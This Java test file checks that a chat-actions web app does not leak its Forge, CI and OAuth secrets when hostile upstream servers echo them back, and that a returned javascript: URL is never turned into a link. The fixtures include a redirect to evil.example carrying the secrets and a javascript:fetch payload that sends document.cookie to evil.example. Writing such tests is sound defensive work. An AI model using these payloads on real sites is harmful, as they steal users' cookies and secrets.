package dev.chatactions.app.http;

import static com.github.tomakehurst.wiremock.client.WireMock.aResponse;
import static com.github.tomakehurst.wiremock.client.WireMock.containing;
import static com.github.tomakehurst.wiremock.client.WireMock.equalTo;
import static com.github.tomakehurst.wiremock.client.WireMock.get;
import static com.github.tomakehurst.wiremock.client.WireMock.okJson;
import static com.github.tomakehurst.wiremock.client.WireMock.post;
import static com.github.tomakehurst.wiremock.client.WireMock.urlPathEqualTo;
import static com.github.tomakehurst.wiremock.core.WireMockConfiguration.wireMockConfig;
import static org.assertj.core.api.Assertions.assertThat;

import com.github.tomakehurst.wiremock.junit5.WireMockExtension;
import dev.chatactions.app.http.SignInByHand.SignedIn;
import io.helidon.webserver.WebServer;
import java.io.IOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.logging.Handler;
import java.util.logging.LogRecord;
import java.util.logging.Logger;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;
import org.junit.jupiter.api.io.TempDir;

/**
 * The production wiring against a Forgejo and a Woodpecker that know every secret we hold and send
 * each one back in every form (plain, percent-encoded, base64) and every place (a redirect's
 * Location, headers, bodies, error text, a {@code javascript:} URL): none may reach an HTTP answer
 * (JSON or HTMX), the history, or a log line, and no such URL may become a link.
 */
class HostileUpstreamTest {

    private static final String FORGE_TOKEN = "forge+tok/en=hostile-0f1e2d";
    private static final String CI_TOKEN = "woodpecker/token+hostile-4b5a";
    private static final String CLIENT_SECRET = "oauth-client=secret+hostile-8c9d";
    private static final String FORWARD_SECRET = "forward/auth+secret-hostile-77";
    private static final String ACCESS_TOKEN = "oauth-access-token-hostile-aabb";
    /** The access token a sign-in gets is not among them: it is dropped once the sign-in is done. */
    private static final List<String> SECRETS = List.of(FORGE_TOKEN, CI_TOKEN, CLIENT_SECRET, FORWARD_SECRET);
    private static final String CONVERSATION = "badc0ffee000";

    @RegisterExtension
    static WireMockExtension forge = WireMockExtension.newInstance()
            .options(wireMockConfig().dynamicPort().bindAddress("127.0.0.1").globalTemplating(true)).build();

    @RegisterExtension
    static WireMockExtension woodpecker = WireMockExtension.newInstance()
            .options(wireMockConfig().dynamicPort().bindAddress("127.0.0.1")).build();

    @TempDir
    Path historyDir;

    private final List<String> logs = new ArrayList<>();
    private final Handler logCapture = new Handler() {
        @Override
        public void publish(LogRecord record) {
            synchronized (logs) {
                logs.add(record.getMessage() + (record.getThrown() == null ? "" : " " + record.getThrown()));
            }
        }

        @Override
        public void flush() {}

        @Override
        public void close() {}
    };
    private final List<String> answers = new ArrayList<>();
    private final HttpClient client = HttpClient.newBuilder().followRedirects(HttpClient.Redirect.NEVER).build();
    private WebServer server;
    private URI base;
    private SignedIn alice;

    /** Each secret in every form a hostile upstream could send it back in. */
    private static String echoes() {
        StringBuilder all = new StringBuilder();
        for (String secret : SECRETS) {
            String encoded = URLEncoder.encode(secret, StandardCharsets.UTF_8);
            all.append(secret).append(' ').append(encoded).append(' ').append(encoded.toLowerCase(java.util.Locale.ROOT).replace(
                    secret.toLowerCase(java.util.Locale.ROOT), secret)).append(' ')
                    .append(Base64.getEncoder().encodeToString(("user:" + secret).getBytes(StandardCharsets.UTF_8))).append(' ')
                    .append(Base64.getUrlEncoder().encodeToString(secret.getBytes(StandardCharsets.UTF_8))).append(' ');
        }
        return all.toString().strip();
    }

    /** The same, fit for a URL query. */
    private static String echoesInQuery() {
        return URLEncoder.encode(echoes(), StandardCharsets.UTF_8);
    }

    @BeforeEach
    void start() throws Exception {
        forge.stubFor(get(urlPathEqualTo("/login/oauth/authorize")).willReturn(aResponse().withStatus(302)
                .withHeader("Location", "{{request.query.redirect_uri}}?code=c&state={{request.query.state}}")));
        forge.stubFor(post(urlPathEqualTo("/login/oauth/access_token")).withRequestBody(containing("code_verifier="))
                .willReturn(okJson("{\"access_token\":\"" + ACCESS_TOKEN + "\",\"token_type\":\"bearer\",\"expires_in\":3600}")));
        forge.stubFor(get(urlPathEqualTo("/api/v1/user")).withHeader("Authorization", equalTo("Bearer " + ACCESS_TOKEN))
                .willReturn(okJson("{\"id\":1,\"login\":\"alice\"}")));
        forge.stubFor(get(urlPathEqualTo("/api/v1/repos/factory/app/labels")).willReturn(okJson("[]").withHeader("X-Total-Count", "0")));
        forge.stubFor(get(urlPathEqualTo("/api/v1/orgs/factory/labels")).willReturn(okJson("[]").withHeader("X-Total-Count", "0")));
        Logger.getLogger("").addHandler(logCapture);
        int port = TestServer.freePort();
        base = URI.create("http://127.0.0.1:" + port);
        Map<String, String> env = new HashMap<>();
        env.put("FORGE_URL", forge.baseUrl());
        env.put("FORGE_TOKEN", FORGE_TOKEN);
        env.put("FORGE_OWNER", "factory");
        env.put("FORGE_REPO", "app");
        env.put("WOODPECKER_SERVER", woodpecker.baseUrl());
        env.put("WOODPECKER_TOKEN", CI_TOKEN);
        env.put("WOODPECKER_REPO_ID", "7");
        env.put("CHAT_OAUTH_CLIENT_ID", "chat-hostile");
        env.put("CHAT_OAUTH_CLIENT_SECRET", CLIENT_SECRET);
        env.put("FORWARD_AUTH_SECRET", FORWARD_SECRET);
        env.put("DISINTO_CHAT_ALLOWED_USERS", "alice");
        env.put("CHAT_HOST", "127.0.0.1");
        env.put("CHAT_PORT", Integer.toString(port));
        env.put("CHAT_PUBLIC_URL", base.toString());
        env.put("CHAT_HISTORY_DIR", historyDir.toString());
        server = Main.run(env);
        alice = SignInByHand.viaForge(client, base);
    }

    @AfterEach
    void stop() {
        Logger.getLogger("").removeHandler(logCapture);
        if (server != null) {
            server.stop();
        }
    }

    private HttpResponse<String> click(String type, String payload, boolean htmx) throws IOException, InterruptedException {
        HttpRequest.Builder request = HttpRequest.newBuilder(base.resolve("/chat/action/" + type + "?conversation=" + CONVERSATION))
                .header("Cookie", alice.cookie()).header("X-CSRF-Token", alice.csrfToken()).header("Origin", base.toString())
                .header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(payload));
        if (htmx) {
            request.header("HX-Request", "true");
        }
        HttpResponse<String> response = client.send(request.build(), HttpResponse.BodyHandlers.ofString());
        synchronized (answers) {
            answers.add(response.headers().map() + "\n" + response.body());
        }
        return response;
    }

    @Test
    void no_secret_comes_back_from_a_redirect_an_error_or_a_created_object_and_no_hostile_url_becomes_a_link() throws Exception {
        // issue-create: a redirect with every secret in its Location and headers, and in its body.
        forge.stubFor(post(urlPathEqualTo("/api/v1/repos/factory/app/issues")).willReturn(aResponse().withStatus(302)
                .withHeader("Location", "https://evil.example/steal?all=" + echoesInQuery())
                .withHeader("X-Echo", echoes())
                .withBody(echoes())));
        // pr-create: a 422 whose message and body carry every secret.
        forge.stubFor(post(urlPathEqualTo("/api/v1/repos/factory/app/pulls")).willReturn(aResponse().withStatus(422)
                .withHeader("Content-Type", "application/json")
                .withBody("{\"message\":\"bad: " + echoes() + "\",\"url\":\"" + echoes() + "\"}")));
        // ci-run: created, but every string it answers (status, branch...) carries secrets.
        woodpecker.stubFor(post(urlPathEqualTo("/api/repos/7/pipelines")).willReturn(okJson(
                "{\"id\":301,\"number\":42,\"status\":\"" + echoes() + "\",\"branch\":\"" + echoes() + "\",\"event\":\"manual\"}")));

        List<Integer> statuses = new ArrayList<>();
        for (boolean htmx : List.of(false, true)) {
            String suffix = htmx ? " (htmx)" : "";
            statuses.add(click("issue-create", "{\"title\":\"Redirected" + suffix + "\"}", htmx).statusCode());
            statuses.add(click("pr-create", "{\"head\":\"fix/x\",\"base\":\"main\",\"title\":\"Refused" + suffix + "\"}", htmx)
                    .statusCode());
            statuses.add(click("ci-run", "{\"branch\":\"fix/" + (htmx ? "b" : "a") + "\"}", htmx).statusCode());
        }

        assertThat(statuses).containsExactly(502, 502, 200, 502, 502, 200);
        assertThat(String.join("\n", answers)).contains("[hidden]", "redirect (302 to https://evil.example/steal?all=[hidden]");
        assertNoSecretIn("answers", String.join("\n", answers));
        assertNoSecretIn("history", allHistory());
        assertNoSecretIn("logs", String.join("\n", logs));
    }

    @Test
    void a_javascript_url_for_a_created_issue_is_shown_as_text_and_kept_as_the_upstream_said_it() throws Exception {
        forge.stubFor(post(urlPathEqualTo("/api/v1/repos/factory/app/issues")).willReturn(aResponse().withStatus(201)
                .withHeader("Content-Type", "application/json")
                .withBody("{\"id\":101,\"number\":12,\"html_url\":\"javascript:fetch('//evil.example/'+document.cookie)//"
                        + FORGE_TOKEN + "\",\"state\":\"open\"}")));

        HttpResponse<String> fragment = click("issue-create", "{\"title\":\"Linked\"}", true);

        assertThat(fragment.statusCode()).isEqualTo(200);
        assertThat(fragment.body()).contains("Issue #12 <span class=\"not-a-link\">(javascript:fetch(")
                .doesNotContain("href").doesNotContain(FORGE_TOKEN);
        assertThat(allHistory()).contains("\"url\":\"javascript:fetch(").contains("[hidden]");
        assertNoSecretIn("answers", String.join("\n", answers));
    }

    private static void assertNoSecretIn(String where, String text) {
        for (String secret : SECRETS) {
            String encoded = URLEncoder.encode(secret, StandardCharsets.UTF_8);
            assertThat(text).as(where + " must not hold " + secret + " in any form")
                    .doesNotContain(secret)
                    .doesNotContain(encoded)
                    .doesNotContainIgnoringCase(encoded)
                    .doesNotContainIgnoringCase(URLEncoder.encode(encoded, StandardCharsets.UTF_8))
                    .doesNotContain(Base64.getEncoder().encodeToString(("user:" + secret).getBytes(StandardCharsets.UTF_8)))
                    .doesNotContain(Base64.getUrlEncoder().encodeToString(secret.getBytes(StandardCharsets.UTF_8)).substring(4, 24));
        }
    }

    private String allHistory() throws IOException {
        StringBuilder all = new StringBuilder();
        try (Stream<Path> files = Files.walk(historyDir)) {
            for (Path file : files.filter(Files::isRegularFile).toList()) {
                all.append(Files.readString(file)).append('\n');
            }
        }
        return all.toString();
    }
}
